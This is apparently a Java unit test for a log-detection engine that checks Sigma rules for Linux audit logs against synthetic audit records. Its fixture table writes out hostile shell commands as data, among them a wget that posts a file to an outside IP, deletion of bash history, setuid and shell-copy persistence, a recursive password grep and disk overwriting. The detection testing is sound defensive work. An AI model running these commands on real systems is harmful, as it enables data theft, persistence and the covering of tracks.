package org.cresset.detect;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.cresset.Shared;
import org.cresset.rule.Placeholders;
import org.cresset.rule.RuleFiles;
import org.junit.jupiter.api.Test;

/// Other people's rules for the audit log, which ask for things of single records, against events that are joined from
/// all records of a call.
final class AuditRulesTest {

    /// By rule what happened, one thing a line: `x ARGUMENTS` starts a program, `p TYPE NAME` opens a file,
    /// `c NUMBER FIRST-ARGUMENT PROGRAM KEY` makes another call, `u TYPE FIELDS` is a record of a program.
    private static final String HAPPENED = """
        a7af2487-9c2f-42e4-9bb9-ff961f0561d5 x arecord -vv -fdat
        2dad0cba-c62a-4a4f-949f-5f6ecd619769 c 1 3 /usr/bin/split k
        3761e026-f259-44e6-8826-719ed8079408 c 42 3 /usr/bin/nmap network_connect_4
        710bdbce-495d-491d-9a8f-7d0d88d2b41e c 133 7f /usr/bin/mknod k
        c0d3734d-330f-4a03-aae2-65dacc6a8222 x sh -c id
        b207d563-a1d9-4275-b349-77d1eb55aa6d c 99 7f /usr/bin/x k
        759d0d51-bc99-4b5e-9add-8f5b2c8e7512 u ADD_USER op=add-user id=1007 res=success
        eca5e022-d368-4043-98e5-9736fb01f72f c 103 5 /usr/bin/dmesg k
        a39d7fa7-3fbd-4dc2-97e1-d87f546b1bbc c 1 3 /tmp/run k
        106d7cbd-80ff-4985-b682-a7043e5acb72 c 175 3 /usr/bin/kmod k
        f7158a64-6204-4d6d-868a-6e6378b467e0 c 59 3 /usr/bin/wget susp_activity
        f34047d9-20d3-4e8b-8672-0a35cc50dc71 x lsmod
        49aae26c-450e-448b-911d-b3c13d178dfc u TTY tty pid=1 comm="bash" data=6C730D
        e497a24e-9345-4a62-9803-b06d7d7cb132 c 135 40000 /usr/bin/setarch k
        a3b5e3e9-1b49-4119-8b8e-0344a01f21ee x tar -czf out.tgz dir
        f200dc3f-b219-425d-a17e-c38467364816 x xclip -sel clip -t image/png -o
        9d4548fa-bba0-4e88-bd66-5d5bf516cda0 x cp /bin/sh /srv/crond
        e2f17c5d-b02a-442b-9052-6eb89c9fec9c x xwd -root -out s.xwd
        37222991-11e9-4b6d-8bdf-60fbe48f753e x dd if=/dev/zero of=disk
        ce446a9e-30b9-4483-8e38-d2c9ad0a2280 x steghide embed -cf p.jpg -ef s.txt
        d08722cd-3d09-449a-80b4-83ea2d9d4616 x touch .hidden
        a5b977d6-8a81-4475-91b9-49dbfcd941f7 x chattr -i file
        edd595d7-7895-4fa7-acb3-85a18a8772ca x unzip p.jpg
        fe10751f-1995-40a5-aaa2-c97ccb4123fe x getcap -r /
        b3cec4e7-6901-4b0d-a02d-8ab2d8eb818b x touch -t 202601010000 file
        a5a827d9-1bbe-4952-9293-c59d897eb41b x steghide extract -sf p.jpg
        f4d3748a-65d1-4806-bd23-e25728081d01 x tcpdump -c 5 -i
        1543ae20-cbdf-4ec1-8d12-7664d667a825 x chmod u+s file
        323ff3f5-0013-4847-bbd4-250b5edb62cc x ufw delete 1
        70b4156e-50fc-4523-aa50-c9dddf1993fc x iptables -t nat -A PREROUTING -j REDIRECT --to-ports=1 --to-ports~42391
        071d5e5a-9cef-47ec-bc4e-a42e34d8d0ed x miner -a --cpu-priority=5
        df3fcaea-2715-4214-99c5-0056ea59eb35 x grep -r password /etc
        dbe4b9c5-c254-4258-9688-d6af0b7967fd x import shot.png
        2625cc59-0634-40d0-821e-cb67382a3dd7 x systemctl restart web
        9a0d8ca0-2385-4020-b6c6-cb6153ca56f3 x whoami
        4cb57c2f-1f29-41f8-893d-8bed8e1c1d2f x shutdown -h now
        74c01ace-0152-4094-8ae2-6fd776dd43e5 x chown ann file
        214e7e6c-f21b-47ff-bb6f-551b2d143fcf x xclip -sel clip -o
        45810b50-7edc-42ca-813b-bdac02fb946b x cat p.jpg s.zip
        eae8ce9f-bde9-47a6-8e79-f20d18419910 x rm /root/.bash_history
        cb39d16b-b3b6-4a7a-8222-1cf24b686ffc x wget --post-file=a http://198.51.100.7/
        c52a914f-3d8b-4b2a-bb75-b3991e75f8ba x truncate -s +1M file
        ca94a6db-8106-4737-9ed2-3e3bb826af0a x chage -l ann
        4b3cb710-5e83-4715-8c45-8b2b5b3e5751 p NORMAL /etc/ld.so.preload
        ea61bb82-a5e0-42e6-8537-91d29500f1b9 p NORMAL /proc/sysrq-trigger
        977ef627-4539-4875-adf4-ed8f780c4922 p NORMAL /etc/audit/auditd.conf
        c830f15d-6f6e-430f-8074-6f73d6807841 p NORMAL /etc/rsyslog.conf
        808146b2-9332-4d78-9416-d7e47012d83d p NORMAL /var/run/mcelog.pid
        1f358e2e-cb63-43c3-b575-dfb072a6814f p NORMAL /proc/version
        a94cdd87-6c54-4678-a6cc-2814ffe5a13d p NORMAL /home/ann/.bashrc
        1bac86ba-41aa-4f62-9d6b-405eac99b485 p CREATE /etc/systemd/system/x.service
        9e1bef8d-0fff-46f6-8465-9aa54e128c1e p NORMAL /srv/.x
        53059bc0-1472-438b-956a-7508a94a91f0 u SERVICE_STOP pid=1 uid=0 msg='unit=ufw comm="systemd" res=success'
        474b415a-8b3d-4e6a-9f12-0d5c8a7b6e94 c 41 26 /usr/bin/x k
        """;

    /// What a rule should see, as the records of the kernel.
    private record Happened(String rule, char what, String said) {

        static Happened of(String line) {
            return new Happened(line.substring(0, 36), line.charAt(37), line.substring(39));
        }

        String records() {
            String[] words = said.split(" ", -1);
            return switch (what) {
                case 'x' -> started(words);
                case 'p' ->
                    call("257", "ffffff9c", "/usr/bin/tee", "k")
                            + line("CWD", "cwd=\"/srv\"")
                            + line("PATH", "item=0 name=\"/\" mode=040755 nametype=PARENT")
                            + line("PATH", "item=1 name=\"" + words[1] + "\" mode=0100644 nametype=" + words[0])
                            + line("PROCTITLE", "proctitle=\"tee\"");
                case 'c' -> call(words[0], words[1], words[2], words[3]) + line("PROCTITLE", "proctitle=\"t\"");
                default -> line(words[0], said.substring(words[0].length() + 1));
            };
        }

        private static String started(String... words) {
            List<String> arguments = new ArrayList<>();
            for (String word : words) {
                arguments.add("a" + arguments.size() + "=" + hex(word.replace('~', ' ')));
            }
            return call("59", "7ffd", "/usr/bin/" + words[0], "k")
                    + line("EXECVE", "argc=" + words.length + " " + String.join(" ", arguments))
                    + line("CWD", "cwd=\"/srv\"")
                    + line("PATH", "item=0 name=\"/usr/bin/" + words[0] + "\" mode=0100755 nametype=NORMAL")
                    + line("PROCTITLE", "proctitle=" + hex(String.join("\0", words)));
        }

        private static String hex(String text) {
            return Stream.of(text)
                    .flatMap(all -> all.chars().mapToObj(c -> String.format("%02X", c)))
                    .collect(Collectors.joining());
        }

        private static String call(String number, String first, String program, String key) {
            String name = program.substring(program.lastIndexOf('/') + 1);
            return line(
                    "SYSCALL",
                    "arch=c000003e syscall=" + number + " success=yes exit=0 a0=" + first + " a1=7e a2=7d a3=8 items=1"
                            + " ppid=1 pid=2 auid=1000 uid=33 euid=33 ses=3 comm=\""
                            + (name.equals("kmod") ? "insmod" : name) + "\" exe=\"" + program + "\" key=\"" + key
                            + "\"");
        }

        private static String line(String type, String fields) {
            return "type=" + type + " msg=audit(1772611200.250:17): " + fields + "\n";
        }
    }

    private static RuleSet rules() {
        Shared.path("sigmahq-2026-08-05");
        RuleFiles files = new RuleFiles(Placeholders.NONE);
        return RuleSet.of(
                Stream.of("rules/linux", "rules-emerging-threats", "rules-threat-hunting")
                        .flatMap(folder -> files.read(Shared.path("sigmahq-2026-08-05/" + folder)).stream())
                        .toList(),
                List.of());
    }

    private static List<String> fired(RuleSet rules, String text) throws IOException {
        return Fired.of(rules, new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)), "audit.log");
    }

    @Test
    void no_rule_is_lost_by_joining_records() throws IOException {
        RuleSet rules = rules();
        Map<String, String> lost = new TreeMap<>();
        for (String line : HAPPENED.lines().toList()) {
            Happened happened = Happened.of(line);
            if (!fired(rules, happened.records()).contains(happened.rule())) {
                lost.put(happened.rule(), line);
            }
        }
        assertThat(lost).isEmpty();
        assertThat(rules.rules().stream()
                        .filter(rule -> rule.source().service().equals(Optional.of("auditd")))
                        .map(rule -> rule.id()))
                .containsExactlyInAnyOrderElementsOf(
                        HAPPENED.lines().map(line -> line.substring(0, 36)).toList());
    }

    @Test
    void a_started_program_is_also_seen_by_the_rules_for_processes() throws IOException {
        RuleSet rules = rules();
        String text = Happened.of("00000000-0000-0000-0000-000000000000 x base64 -d file")
                .records();
        assertThat(fired(rules, text)).contains("e2072cab-8c9a-459b-b63c-40ae79e27031");
    }
}
